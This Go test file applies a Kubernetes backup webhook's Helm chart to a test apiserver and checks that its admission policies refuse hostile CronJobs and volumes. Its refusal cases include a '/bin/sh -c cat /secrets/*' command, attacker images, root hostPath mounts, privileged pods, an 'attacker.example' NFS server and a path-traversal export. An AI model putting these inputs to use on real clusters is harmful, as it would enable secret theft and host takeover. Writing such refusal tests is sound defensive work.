// Package manifests_test renders the Helm chart and builds the kustomize base with the
// real tools and applies every object they produce, and the examples, to a real
// kube-apiserver (server-side validation, with the upstream CRDs of cert-manager and
// the Prometheus Operator installed).
package manifests_test

import (
	"bytes"
	"context"
	"errors"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	admissionregistrationv1 "k8s.io/api/admissionregistration/v1"
	batchv1 "k8s.io/api/batch/v1"
	corev1 "k8s.io/api/core/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	"k8s.io/apimachinery/pkg/api/meta"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"k8s.io/apimachinery/pkg/runtime"
	"k8s.io/apimachinery/pkg/types"
	utilyaml "k8s.io/apimachinery/pkg/util/yaml"
	"k8s.io/client-go/discovery"
	"k8s.io/client-go/discovery/cached/memory"
	"k8s.io/client-go/dynamic"
	"k8s.io/client-go/kubernetes"
	"k8s.io/client-go/rest"
	"k8s.io/client-go/restmapper"
	"sigs.k8s.io/controller-runtime/pkg/envtest"

	"github.com/smartbackup/smartbackup/test/testenv"
	"github.com/smartbackup/smartbackup/webhook/admission"
	"github.com/smartbackup/smartbackup/webhook/config/configtest"
	"github.com/smartbackup/smartbackup/webhook/cronjobs"
	"github.com/smartbackup/smartbackup/webhook/inject"
)

func TestMain(m *testing.M) { testenv.Main(m) }

const chart = "chart/smartbackup"

func helm(t *testing.T, args ...string) []byte {
	t.Helper()
	out, err := exec.Command(testenv.Tool(t, "helm"), append([]string{"template", "smartbackup", chart, "--namespace", "smartbackup"}, args...)...).Output()
	if err != nil {
		var ee *exec.ExitError
		if errors.As(err, &ee) {
			t.Fatalf("helm template %v: %v\n%s", args, err, ee.Stderr)
		}
		t.Fatal(err)
	}
	return out
}

func kustomize(t *testing.T, dir string) []byte {
	t.Helper()
	out, err := exec.Command(testenv.Tool(t, "kustomize"), "build", dir).Output()
	if err != nil {
		t.Fatalf("kustomize build %s: %v", dir, err)
	}
	return out
}

// decode splits a YAML stream into objects.
func decode(t *testing.T, b []byte) []*unstructured.Unstructured {
	t.Helper()
	dec := utilyaml.NewYAMLOrJSONDecoder(bytes.NewReader(b), 4096)
	var out []*unstructured.Unstructured
	for {
		var obj map[string]any
		err := dec.Decode(&obj)
		if errors.Is(err, io.EOF) {
			return out
		}
		if err != nil {
			t.Fatalf("decoding YAML: %v", err)
		}
		if len(obj) > 0 {
			out = append(out, &unstructured.Unstructured{Object: obj})
		}
	}
}

// cluster is the test apiserver with the CRDs installed, and an applier.
type cluster struct {
	dyn    dynamic.Interface
	mapper meta.RESTMapper
	cs     kubernetes.Interface
}

func newCluster(t *testing.T) *cluster {
	t.Helper()
	k := testenv.StartKube(t)
	if _, err := envtest.InstallCRDs(k.Config, envtest.CRDInstallOptions{Paths: testenv.CRDDirs(t), ErrorIfPathMissing: true}); err != nil {
		t.Fatalf("installing CRDs: %v", err)
	}
	dc := discovery.NewDiscoveryClientForConfigOrDie(k.Config)
	return &cluster{
		dyn:    dynamic.NewForConfigOrDie(k.Config),
		mapper: restmapper.NewDeferredDiscoveryRESTMapper(memory.NewMemCacheClient(dc)),
		cs:     kubernetes.NewForConfigOrDie(k.Config),
	}
}

func (c *cluster) namespace(t *testing.T, name string) {
	_, err := c.cs.CoreV1().Namespaces().Create(t.Context(), &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: name}}, metav1.CreateOptions{})
	if err != nil && !apierrors.IsAlreadyExists(err) {
		t.Fatal(err)
	}
}

// apply server-side applies every object (into ns when namespaced and unset).
func (c *cluster) apply(t *testing.T, objs []*unstructured.Unstructured, ns string) {
	t.Helper()
	for _, o := range objs {
		gvk := o.GroupVersionKind()
		m, err := c.mapper.RESTMapping(gvk.GroupKind(), gvk.Version)
		if err != nil {
			t.Fatalf("%s %s: no API for it: %v", gvk, o.GetName(), err)
		}
		var ri dynamic.ResourceInterface = c.dyn.Resource(m.Resource)
		if m.Scope.Name() == meta.RESTScopeNameNamespace {
			if o.GetNamespace() == "" {
				o.SetNamespace(ns)
			}
			ri = c.dyn.Resource(m.Resource).Namespace(o.GetNamespace())
		}
		data, err := o.MarshalJSON()
		if err != nil {
			t.Fatal(err)
		}
		force := true
		if _, err := ri.Patch(t.Context(), o.GetName(), types.ApplyPatchType, data, metav1.PatchOptions{FieldManager: "manifests-test", Force: &force}); err != nil {
			t.Errorf("applying %s %s/%s: %v", gvk.Kind, o.GetNamespace(), o.GetName(), err)
		}
	}
}

func kinds(objs []*unstructured.Unstructured) []string {
	var out []string
	for _, o := range objs {
		out = append(out, o.GetKind()+"/"+o.GetName())
	}
	return out
}

// TestChartAndKustomizeApply: every object of every rendering is accepted by the
// apiserver.
func TestChartAndKustomizeApply(t *testing.T) {
	c := newCluster(t)
	renders := map[string][]byte{
		"chart, cert-manager TLS": helm(t, "--api-versions", "monitoring.coreos.com/v1"),
		"chart, self-managed TLS": helm(t, "--api-versions", "monitoring.coreos.com/v1", "--set", "tls.mode=self"),
		"chart, Rubrik sync on":   helm(t, "--api-versions", "monitoring.coreos.com/v1", "--set", "sync.targetURL=file:///rubrik", "--set", "sync.targetClaim=rubrik-managed-volume", "--set", "storage.sistemico=gs://erp-backups"),
		"kustomize base":          kustomize(t, "kustomize/base"),
	}
	c.namespace(t, "smartbackup")
	for name, b := range renders {
		t.Run(name, func(t *testing.T) {
			objs := decode(t, b)
			want := []string{"Deployment", "Service", "PodDisruptionBudget", "ServiceAccount", "ClusterRole", "ClusterRoleBinding", "Role", "RoleBinding", "MutatingWebhookConfiguration", "ServiceMonitor", "PrometheusRule", "ConfigMap"}
			for _, k := range want {
				if !strings.Contains(strings.Join(kinds(objs), " "), k+"/") {
					t.Errorf("%s has no %s: %v", name, k, kinds(objs))
				}
			}
			for _, o := range objs {
				// The Service smartbackup-webhook would set SMARTBACKUP_WEBHOOK_PORT=tcp://…
				// in the webhook's environment, where it is the port setting.
				if links, found, _ := unstructured.NestedBool(o.Object, "spec", "template", "spec", "enableServiceLinks"); o.GetKind() == "Deployment" && (!found || links) {
					t.Errorf("%s: the webhook Deployment must set enableServiceLinks: false", name)
				}
			}
			c.apply(t, objs, "smartbackup")
		})
	}
	t.Run("examples", func(t *testing.T) {
		ns := decode(t, mustRead(t, "examples/namespaces.yaml"))
		c.apply(t, ns, "")
		c.apply(t, decode(t, mustRead(t, "examples/dbaccess.yaml")), "cliente-hml")
	})
}

func mustRead(t *testing.T, p string) []byte {
	t.Helper()
	b, err := os.ReadFile(p)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// TestKustomizeBaseIsTheChart: the kustomize base is the chart's default rendering
// (hack/gen-manifests.sh, as on a cluster with the Prometheus Operator), so the two ways
// to deploy cannot drift.
func TestKustomizeBaseIsTheChart(t *testing.T) {
	got, err := os.ReadFile(filepath.Join("kustomize", "base", "smartbackup.yaml"))
	if err != nil {
		t.Fatal(err)
	}
	want := "# Generated by hack/gen-manifests.sh from manifests/chart/smartbackup (default values). Do not edit.\n" + string(helm(t, "--api-versions", "monitoring.coreos.com/v1"))
	if string(got) != want {
		t.Fatal("manifests/kustomize/base/smartbackup.yaml is stale: run hack/gen-manifests.sh")
	}
}

// TestWebhookConfigurationMatchesCode: the chart's MutatingWebhookConfiguration is the
// one webhook/admission defines (scoping, failure policy, timeouts).
func TestWebhookConfigurationMatchesCode(t *testing.T) {
	for _, mode := range []string{"cert-manager", "self"} {
		var rendered *admissionregistrationv1.MutatingWebhookConfiguration
		for _, o := range decode(t, helm(t, "--set", "tls.mode="+mode)) {
			if o.GetKind() == "MutatingWebhookConfiguration" {
				rendered = &admissionregistrationv1.MutatingWebhookConfiguration{}
				if err := runtime.DefaultUnstructuredConverter.FromUnstructured(o.Object, rendered); err != nil {
					t.Fatal(err)
				}
			}
		}
		if rendered == nil {
			t.Fatalf("%s: no MutatingWebhookConfiguration rendered", mode)
		}
		want := admission.WebhookConfiguration("smartbackup-webhook", "smartbackup", "smartbackup-webhook", nil)
		if diff := cmp.Diff(want.Webhooks, rendered.Webhooks); diff != "" {
			t.Errorf("%s: chart vs webhook/admission.WebhookConfiguration (-code +chart):\n%s", mode, diff)
		}
		if rendered.Name != want.Name {
			t.Errorf("%s: name %q, want %q", mode, rendered.Name, want.Name)
		}
		_, injected := rendered.Annotations["cert-manager.io/inject-ca-from"]
		if injected != (mode == "cert-manager") {
			t.Errorf("%s: cert-manager.io/inject-ca-from present=%v", mode, injected)
		}
	}
}

// find returns the rendered object of kind and name, failing when there is none.
func find(t *testing.T, objs []*unstructured.Unstructured, kind, name string) *unstructured.Unstructured {
	t.Helper()
	for _, o := range objs {
		if o.GetKind() == kind && o.GetName() == name {
			return o
		}
	}
	t.Fatalf("no %s/%s in %v", kind, name, kinds(objs))
	return nil
}

func str(o *unstructured.Unstructured, path ...string) string {
	s, _, _ := unstructured.NestedString(o.Object, path...)
	return s
}

// TestCertManagerCAChain: in cert-manager mode the serving Certificate is signed by a CA
// Issuer over a CA Certificate (made by a self-signed Issuer), and the caBundle is
// injected from the CA Certificate, so a serving certificate renewal never changes the
// caBundle. With an issuer of the operator's own, the chain is theirs.
func TestCertManagerCAChain(t *testing.T) {
	objs := decode(t, helm(t))
	mwc := find(t, objs, "MutatingWebhookConfiguration", "smartbackup-webhook")
	from := mwc.GetAnnotations()["cert-manager.io/inject-ca-from"]
	if from != "smartbackup/smartbackup-webhook-ca" {
		t.Fatalf("inject-ca-from = %q, want the CA Certificate smartbackup/smartbackup-webhook-ca", from)
	}
	ca := find(t, objs, "Certificate", "smartbackup-webhook-ca")
	if isCA, _, _ := unstructured.NestedBool(ca.Object, "spec", "isCA"); !isCA {
		t.Error("the CA Certificate is not isCA")
	}
	if got := str(ca, "spec", "privateKey", "rotationPolicy"); got != "Never" {
		t.Errorf("the CA's key rotationPolicy = %q, want Never (leaves it signed stay valid across its renewal)", got)
	}
	selfSigned := find(t, objs, "Issuer", str(ca, "spec", "issuerRef", "name"))
	if _, ok, _ := unstructured.NestedMap(selfSigned.Object, "spec", "selfSigned"); !ok {
		t.Errorf("the CA Certificate's issuer %s is not self-signed", selfSigned.GetName())
	}
	serving := find(t, objs, "Certificate", "smartbackup-webhook")
	caIssuer := find(t, objs, "Issuer", str(serving, "spec", "issuerRef", "name"))
	if got := str(caIssuer, "spec", "ca", "secretName"); got == "" || got != str(ca, "spec", "secretName") {
		t.Errorf("the serving Certificate's issuer %s signs with Secret %q, want the CA's %q", caIssuer.GetName(), got, str(ca, "spec", "secretName"))
	}
	if isCA, _, _ := unstructured.NestedBool(serving.Object, "spec", "isCA"); isCA {
		t.Error("the serving Certificate is a CA")
	}
	if got := str(serving, "spec", "secretName"); got != "smartbackup-webhook-tls" {
		t.Errorf("serving Secret %q, want the one the Deployment mounts", got)
	}

	own := decode(t, helm(t, "--set", "tls.issuerRef.name=corp-ca", "--set", "tls.issuerRef.kind=ClusterIssuer"))
	for _, o := range own {
		if o.GetKind() == "Issuer" {
			t.Errorf("with an issuer of the operator's own the chart still renders Issuer %s", o.GetName())
		}
	}
	if got := find(t, own, "MutatingWebhookConfiguration", "smartbackup-webhook").GetAnnotations()["cert-manager.io/inject-ca-from"]; got != "smartbackup/smartbackup-webhook" {
		t.Errorf("with an own issuer inject-ca-from = %q, want the serving Certificate (its ca.crt is the issuer's CA)", got)
	}
}

// TestRolloutSettings: the Deployment never leaves the Service without a ready replica
// and gives a stopping one time to drain (issue: rollouts drop admissions).
func TestRolloutSettings(t *testing.T) {
	d := find(t, decode(t, helm(t)), "Deployment", "smartbackup-webhook")
	if got, ok := number(d.Object, "spec", "strategy", "rollingUpdate", "maxUnavailable"); !ok || got != 0 {
		t.Errorf("maxUnavailable = %d (set %v), want 0", got, ok)
	}
	cs, _, _ := unstructured.NestedSlice(d.Object, "spec", "template", "spec", "containers")
	c := cs[0].(map[string]any)
	sleep, _ := number(c, "lifecycle", "preStop", "sleep", "seconds")
	grace, _ := number(d.Object, "spec", "template", "spec", "terminationGracePeriodSeconds")
	var delay time.Duration
	env, _, _ := unstructured.NestedSlice(c, "env")
	for _, e := range env {
		if m := e.(map[string]any); m["name"] == "SMARTBACKUP_SHUTDOWN_DELAY" {
			delay, _ = time.ParseDuration(m["value"].(string))
		}
	}
	if sleep < 1 || delay <= 0 {
		t.Errorf("preStop sleep %ds, SMARTBACKUP_SHUTDOWN_DELAY %s: want both", sleep, delay)
	}
	if time.Duration(grace)*time.Second < time.Duration(sleep)*time.Second+delay+10*time.Second {
		t.Errorf("terminationGracePeriodSeconds %d leaves under 10 s for requests in flight after %ds + %s", grace, sleep, delay)
	}
}

// number reads an integer field of a decoded object (JSON numbers decode as int64 or
// float64).
func number(obj map[string]any, path ...string) (int64, bool) {
	v, ok, _ := unstructured.NestedFieldNoCopy(obj, path...)
	switch n := v.(type) {
	case int64:
		return n, ok
	case float64:
		return int64(n), ok
	}
	return 0, false
}

// as is a clientset impersonating user (with groups), as the apiserver authorizes and
// admits a request of that identity.
func (c *cluster) as(t *testing.T, cfg *rest.Config, user string, groups ...string) kubernetes.Interface {
	t.Helper()
	ic := rest.CopyConfig(cfg)
	ic.Impersonate = rest.ImpersonationConfig{UserName: user, Groups: append(groups, "system:authenticated")}
	return kubernetes.NewForConfigOrDie(ic)
}

// TestAdmissionPolicies applies the chart and checks, on the real apiserver that
// enforces them, the two ValidatingAdmissionPolicies: the webhook's ServiceAccount may
// write only the CronJobs the webhook builds (the builder's own output is admitted, each
// deviation refused), and only namespace administrators may set smartbackup.io/*
// namespace labels and annotations.
func TestAdmissionPolicies(t *testing.T) {
	c := newCluster(t)
	c.namespace(t, "smartbackup")
	// SmartERP on a volume, as the operations page keeps it, so that the volumes policy
	// is rendered too (the same volume source as configtest's).
	c.apply(t, decode(t, helm(t, "--set", "storage.smarterp=file:///backup",
		"--set", "storage.volumeSource=nfs://nfs.backup.internal/exports/smartbackup")), "smartbackup")
	kube := testenv.StartKube(t)
	ctx := t.Context()

	webhook := c.as(t, kube.Config, "system:serviceaccount:smartbackup:smartbackup-webhook",
		"system:serviceaccounts", "system:serviceaccounts:smartbackup")
	tenant := c.as(t, kube.Config, "tenant@acme", "capsule-tenants")
	// The tenant may edit namespaces (as Capsule lets a tenant owner): RBAC allows it,
	// only the policy stands in the way.
	rbac := []*unstructured.Unstructured{{Object: map[string]any{
		"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRole", "metadata": map[string]any{"name": "tenant-namespaces"},
		"rules": []any{map[string]any{"apiGroups": []any{""}, "resources": []any{"namespaces"}, "verbs": []any{"get", "create", "update", "patch"}}},
	}}, {Object: map[string]any{
		"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRoleBinding", "metadata": map[string]any{"name": "tenant-namespaces"},
		"roleRef":  map[string]any{"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "tenant-namespaces"},
		"subjects": []any{map[string]any{"apiGroup": "rbac.authorization.k8s.io", "kind": "User", "name": "tenant@acme"}},
	}}}
	c.apply(t, rbac, "")

	enabled := testenv.RandomName("acme-prd-")
	_, err := c.cs.CoreV1().Namespaces().Create(ctx, &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: enabled, Labels: map[string]string{
		"smartbackup.io/enabled": "true", "smartbackup.io/product": "smarterp", "smartbackup.io/environment": "production",
	}, Annotations: map[string]string{"smartbackup.io/database-endpoint": "db." + enabled + ".svc", "smartbackup.io/database-name": "erp"}}}, metav1.CreateOptions{})
	if err != nil {
		t.Fatalf("an administrator creating an enabled namespace: %v", err)
	}
	plain := testenv.RandomName("plain-")
	c.namespace(t, plain)

	// The policies take effect once the apiserver has loaded them.
	deadline := time.Now().Add(30 * time.Second)
	for {
		_, err := tenant.CoreV1().Namespaces().Create(ctx, &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{
			Name: testenv.RandomName("probe-"), Labels: map[string]string{"smartbackup.io/customer": "globex"}}}, metav1.CreateOptions{})
		if err != nil && strings.Contains(err.Error(), "ValidatingAdmissionPolicy") {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("the namespace policy is not enforced after 30s (last: %v)", err)
		}
		time.Sleep(200 * time.Millisecond)
	}

	t.Run("namespace settings", func(t *testing.T) {
		edit := func(who kubernetes.Interface, name string, f func(*corev1.Namespace)) error {
			ns, err := c.cs.CoreV1().Namespaces().Get(ctx, name, metav1.GetOptions{})
			if err != nil {
				t.Fatal(err)
			}
			f(ns)
			_, err = who.CoreV1().Namespaces().Update(ctx, ns, metav1.UpdateOptions{})
			return err
		}
		setLabel := func(k, v string) func(*corev1.Namespace) {
			return func(ns *corev1.Namespace) {
				if ns.Labels == nil {
					ns.Labels = map[string]string{}
				}
				ns.Labels[k] = v
			}
		}
		cases := map[string]struct {
			who     kubernetes.Interface
			ns      string
			change  func(*corev1.Namespace)
			refused bool
		}{
			"a tenant claiming another customer is refused":                  {who: tenant, ns: plain, change: setLabel("smartbackup.io/customer", "globex"), refused: true},
			"a tenant pointing its restore at another production is refused": {who: tenant, ns: enabled, change: setLabel("smartbackup.io/restore-source", "globex-prd"), refused: true},
			"a tenant changing the database endpoint is refused": {who: tenant, ns: enabled, refused: true, change: func(ns *corev1.Namespace) {
				ns.Annotations["smartbackup.io/database-endpoint"] = "evil.example"
			}},
			"a tenant removing the enabled label is refused": {who: tenant, ns: enabled, refused: true, change: func(ns *corev1.Namespace) {
				delete(ns.Labels, "smartbackup.io/enabled")
			}},
			"a tenant's own labels are fine":           {who: tenant, ns: enabled, change: setLabel("team", "erp")},
			"an administrator sets smartbackup labels": {who: c.cs, ns: plain, change: setLabel("smartbackup.io/customer", "acme")},
		}
		for name, tc := range cases {
			t.Run(name, func(t *testing.T) {
				err := edit(tc.who, tc.ns, tc.change)
				switch {
				case tc.refused && (err == nil || !strings.Contains(err.Error(), "smartbackup.io/")):
					t.Fatalf("update = %v, want a refusal naming smartbackup.io/", err)
				case !tc.refused && err != nil:
					t.Fatalf("update refused: %v", err)
				}
			})
		}
	})

	t.Run("the webhook's CronJobs", func(t *testing.T) {
		cfg := configtest.New(t, map[string]string{"CRONBACKUP_IMAGE": "smartbackup/cronbackup:0.1.0", "INITRESTORE_IMAGE": "smartbackup/initrestore:0.1.0"})
		good := func(ns string) *batchv1.CronJob {
			n := inject.Namespace{Name: ns, Labels: map[string]string{"smartbackup.io/enabled": "true", "smartbackup.io/product": "smarterp", "smartbackup.io/environment": "production"},
				Annotations: map[string]string{"smartbackup.io/database-endpoint": "db.svc", "smartbackup.io/database-name": "erp"}}
			s, d := inject.ParseBackup(n, cfg)
			if d != nil {
				t.Fatal(d)
			}
			plan, err := cronjobs.PlanFor(n, cfg)
			if err != nil {
				t.Fatal(err)
			}
			if plan.Schedule == "" {
				plan.Schedule = "7 21 * * *"
			}
			return cronjobs.Backup(s, plan, cfg)
		}
		pod := func(cj *batchv1.CronJob) *corev1.PodSpec { return &cj.Spec.JobTemplate.Spec.Template.Spec }
		// Each policy takes effect once the apiserver has loaded it (the namespace
		// policy's being enforced says nothing of this one's; a loaded machine ran the
		// cases first, and they were admitted).
		for deadline := time.Now().Add(30 * time.Second); ; {
			probe := good("kube-system")
			probe.Namespace = "kube-system"
			_, err := webhook.BatchV1().CronJobs("kube-system").Create(ctx, probe, metav1.CreateOptions{DryRun: []string{metav1.DryRunAll}})
			if err != nil && strings.Contains(err.Error(), "ValidatingAdmissionPolicy") {
				break
			}
			if time.Now().After(deadline) {
				t.Fatalf("the CronJobs policy is not enforced after 30s (last: %v)", err)
			}
			time.Sleep(200 * time.Millisecond)
		}
		if _, err := webhook.BatchV1().CronJobs(enabled).Create(ctx, good(enabled), metav1.CreateOptions{}); err != nil {
			t.Fatalf("the builder's own CronJob was refused: %v", err)
		}
		cases := map[string]struct {
			ns  string
			mod func(*batchv1.CronJob)
		}{
			"in kube-system":             {ns: "kube-system"},
			"in a namespace not enabled": {ns: plain},
			"another image":              {ns: enabled, mod: func(cj *batchv1.CronJob) { pod(cj).Containers[0].Image = "attacker/tools:latest" }},
			"a command":                  {ns: enabled, mod: func(cj *batchv1.CronJob) { pod(cj).Containers[0].Command = []string{"/bin/sh", "-c", "cat /secrets/*"} }},
			"a hostPath volume": {ns: enabled, mod: func(cj *batchv1.CronJob) {
				pod(cj).Volumes = append(pod(cj).Volumes, corev1.Volume{Name: "root", VolumeSource: corev1.VolumeSource{HostPath: &corev1.HostPathVolumeSource{Path: "/"}}})
			}},
			"a Secret volume": {ns: enabled, mod: func(cj *batchv1.CronJob) {
				pod(cj).Volumes = append(pod(cj).Volumes, corev1.Volume{Name: "s", VolumeSource: corev1.VolumeSource{Secret: &corev1.SecretVolumeSource{SecretName: "admin-token"}}})
			}},
			"another ServiceAccount": {ns: enabled, mod: func(cj *batchv1.CronJob) { pod(cj).ServiceAccountName = "cluster-admin" }},
			"the API token mounted":  {ns: enabled, mod: func(cj *batchv1.CronJob) { pod(cj).AutomountServiceAccountToken = new(true) }},
			"privileged": {ns: enabled, mod: func(cj *batchv1.CronJob) {
				// Privileged with allowPrivilegeEscalation=false is invalid on its own;
				// drop the latter so only the policy can refuse it.
				sc := pod(cj).Containers[0].SecurityContext
				sc.Privileged, sc.AllowPrivilegeEscalation = new(true), nil
			}},
			"an init container": {ns: enabled, mod: func(cj *batchv1.CronJob) {
				pod(cj).InitContainers = []corev1.Container{{Name: "x", Image: "attacker/tools"}}
			}},
			"host networking": {ns: enabled, mod: func(cj *batchv1.CronJob) { pod(cj).HostNetwork = true }},
			"another name":    {ns: enabled, mod: func(cj *batchv1.CronJob) { cj.Name = "miner" }},
			"not labelled as the webhook's": {ns: enabled, mod: func(cj *batchv1.CronJob) {
				cj.Name = "smartbackup-backup-2"
				delete(cj.Labels, "app.kubernetes.io/managed-by")
			}},
		}
		for name, tc := range cases {
			t.Run("refused: "+name, func(t *testing.T) {
				cj := good(tc.ns)
				if tc.mod != nil {
					tc.mod(cj)
				}
				cj.Namespace = tc.ns
				_, err := webhook.BatchV1().CronJobs(tc.ns).Create(ctx, cj, metav1.CreateOptions{})
				if err == nil {
					_ = c.cs.BatchV1().CronJobs(tc.ns).Delete(context.Background(), cj.Name, metav1.DeleteOptions{})
					t.Fatal("the webhook's ServiceAccount created it")
				}
				if !strings.Contains(err.Error(), "ValidatingAdmissionPolicy") {
					t.Fatalf("refused, but not by the policy: %v", err)
				}
			})
		}
		t.Run("refused: deleting a CronJob the webhook does not manage", func(t *testing.T) {
			other := good(enabled)
			other.Name, other.Labels = "tenant-report", nil
			if _, err := c.cs.BatchV1().CronJobs(enabled).Create(ctx, other, metav1.CreateOptions{}); err != nil {
				t.Fatal(err)
			}
			err := webhook.BatchV1().CronJobs(enabled).Delete(ctx, other.Name, metav1.DeleteOptions{})
			if err == nil || !strings.Contains(err.Error(), "ValidatingAdmissionPolicy") {
				t.Fatalf("delete = %v, want a refusal by the policy", err)
			}
		})
		t.Run("admitted: a namespace whose server needs TLS (its CA mounted)", func(t *testing.T) {
			for i, ann := range []string{"smartbackup.io/database-ca-configmap", "smartbackup.io/database-ca-secret"} {
				n := inject.Namespace{Name: enabled, Labels: map[string]string{"smartbackup.io/enabled": "true", "smartbackup.io/product": "smarterp", "smartbackup.io/environment": "production"},
					Annotations: map[string]string{"smartbackup.io/database-endpoint": "db.svc", "smartbackup.io/database-name": "erp",
						"smartbackup.io/database-sslmode": "verify-full", ann: "postgres-ca"}}
				s, d := inject.ParseBackup(n, cfg)
				if d != nil {
					t.Fatal(d)
				}
				cj := cronjobs.Backup(s, cronjobs.Plan{Schedule: "7 21 * * *", KeepDaily: 7, KeepWeekly: 4, KeepMonthly: 3, MaxConcurrentPerServer: 4}, cfg)
				// Suspended in a namespace without one, and not persisted: only the
				// volumes are at stake.
				cj.Namespace, cj.Spec.Suspend = plain, new(true)
				if _, err := webhook.BatchV1().CronJobs(plain).Create(ctx, cj, metav1.CreateOptions{DryRun: []string{metav1.DryRunAll}}); err != nil {
					t.Fatalf("%d: the CronJob of a namespace with %s was refused: %v", i, ann, err)
				}
			}
		})
		t.Run("the verify CronJob, and only as built", func(t *testing.T) {
			n := inject.Namespace{Name: enabled, Labels: map[string]string{"smartbackup.io/enabled": "true", "smartbackup.io/product": "smarterp", "smartbackup.io/environment": "production"},
				Annotations: map[string]string{"smartbackup.io/database-endpoint": "db.svc", "smartbackup.io/database-name": "erp"}}
			s, d := inject.ParseBackup(n, cfg)
			if d != nil {
				t.Fatal(d)
			}
			verifyOf := func() *batchv1.CronJob {
				cj := cronjobs.Verify(s, "verify-db.svc:5433", cfg)
				cj.Namespace = enabled
				return cj
			}
			if _, err := webhook.BatchV1().CronJobs(enabled).Create(ctx, verifyOf(), metav1.CreateOptions{}); err != nil {
				t.Fatalf("the builder's own verify CronJob was refused: %v", err)
			}
			dry := metav1.CreateOptions{DryRun: []string{metav1.DryRunAll}}
			for name, mod := range map[string]func(*batchv1.CronJob){
				"the verify CronJob running a backup": func(cj *batchv1.CronJob) { pod(cj).Containers[0].Args = []string{"backup"} },
				"the backup CronJob running verify":   func(cj *batchv1.CronJob) { cj.Name = "smartbackup-backup" },
				"verify with more arguments":          func(cj *batchv1.CronJob) { pod(cj).Containers[0].Args = []string{"verify", "--", "sh"} },
				"verify with a command":               func(cj *batchv1.CronJob) { pod(cj).Containers[0].Command = []string{"/bin/sh"} },
				"verify with another image":           func(cj *batchv1.CronJob) { pod(cj).Containers[0].Image = "attacker/tools:latest" },
				"verify with a hostPath": func(cj *batchv1.CronJob) {
					pod(cj).Volumes = append(pod(cj).Volumes, corev1.Volume{Name: "root", VolumeSource: corev1.VolumeSource{HostPath: &corev1.HostPathVolumeSource{Path: "/"}}})
				},
				"verify in a namespace not enabled": func(cj *batchv1.CronJob) { cj.Namespace = plain },
			} {
				cj := verifyOf()
				mod(cj)
				if _, err := webhook.BatchV1().CronJobs(cj.Namespace).Create(ctx, cj, dry); err == nil || !strings.Contains(err.Error(), "ValidatingAdmissionPolicy") {
					t.Errorf("%s: create = %v, want a refusal by the policy", name, err)
				}
			}
		})
		t.Run("admitted: suspending in a namespace no longer enabled, and deleting its own", func(t *testing.T) {
			cj := good(plain)
			cj.Spec.Suspend = new(true)
			if _, err := webhook.BatchV1().CronJobs(plain).Create(ctx, cj, metav1.CreateOptions{}); err != nil {
				t.Fatalf("a suspended CronJob was refused: %v", err)
			}
			if err := webhook.BatchV1().CronJobs(plain).Delete(ctx, cj.Name, metav1.DeleteOptions{}); err != nil {
				t.Fatalf("deleting its own CronJob was refused: %v", err)
			}
		})
	})

	t.Run("the webhook's backup volumes", func(t *testing.T) {
		cfg := configtest.New(t, map[string]string{"CRONBACKUP_IMAGE": "smartbackup/cronbackup:0.1.0", "INITRESTORE_IMAGE": "smartbackup/initrestore:0.1.0"})
		hml := testenv.RandomName("acme-hml-")
		c.namespace(t, hml)
		n := inject.Namespace{Name: hml, Labels: map[string]string{"smartbackup.io/enabled": "true", "smartbackup.io/product": "smarterp",
			"smartbackup.io/environment": "homologation", "smartbackup.io/customer": "acme", "smartbackup.io/restore-source": enabled},
			Annotations: map[string]string{"smartbackup.io/database-endpoint": "db.svc", "smartbackup.io/database-name": "erp_hml"}}
		s, d := inject.ParseNamespace(n, cfg)
		if d != nil {
			t.Fatal(d)
		}
		claims := cronjobs.Claims(s, cfg)
		if len(claims) != 2 {
			t.Fatalf("%d claims", len(claims))
		}
		own, src := claims[0], claims[1]
		dry := metav1.CreateOptions{DryRun: []string{metav1.DryRunAll}}
		// Each policy takes effect once the apiserver has loaded it.
		probe := own.PV.DeepCopy()
		probe.Spec.NFS.Server = "probe.example"
		for deadline := time.Now().Add(30 * time.Second); ; {
			_, err := webhook.CoreV1().PersistentVolumes().Create(ctx, probe, dry)
			if err != nil && strings.Contains(err.Error(), "ValidatingAdmissionPolicy") {
				break
			}
			if time.Now().After(deadline) {
				t.Fatalf("the volumes policy is not enforced after 30s (last: %v)", err)
			}
			time.Sleep(200 * time.Millisecond)
		}
		for _, cl := range claims {
			if _, err := webhook.CoreV1().PersistentVolumes().Create(ctx, cl.PV, dry); err != nil {
				t.Fatalf("the builder's own PersistentVolume %s was refused: %v", cl.PV.Name, err)
			}
			if _, err := webhook.CoreV1().PersistentVolumeClaims(hml).Create(ctx, cl.PVC, dry); err != nil {
				t.Fatalf("the builder's own claim %s was refused: %v", cl.PVC.Name, err)
			}
		}
		job := cronjobs.ProvisionJob(hml, s.StoragePath, cfg)
		if _, err := webhook.BatchV1().Jobs("smartbackup").Create(ctx, job, dry); err != nil {
			t.Fatalf("the builder's own provisioning Job was refused: %v", err)
		}
		pvCases := map[string]func(pv *corev1.PersistentVolume){
			"the node's root": func(pv *corev1.PersistentVolume) {
				pv.Spec.NFS, pv.Spec.HostPath = nil, &corev1.HostPathVolumeSource{Path: "/"}
			},
			"another customer's directory": func(pv *corev1.PersistentVolume) { pv.Spec.NFS.Path = "/exports/smartbackup/globex-prd" },
			"a way up":                     func(pv *corev1.PersistentVolume) { pv.Spec.NFS.Path = "/exports/smartbackup/" + hml + "/.." },
			"the whole volume":             func(pv *corev1.PersistentVolume) { pv.Spec.NFS.Path = "/exports/smartbackup" },
			"another export":               func(pv *corev1.PersistentVolume) { pv.Spec.NFS.Path = "/exports/other/" + hml },
			"another server":               func(pv *corev1.PersistentVolume) { pv.Spec.NFS.Server = "attacker.example" },
			"pre-bound to another namespace": func(pv *corev1.PersistentVolume) {
				pv.Spec.ClaimRef.Namespace = "globex-hml"
			},
			"Delete instead of Retain": func(pv *corev1.PersistentVolume) {
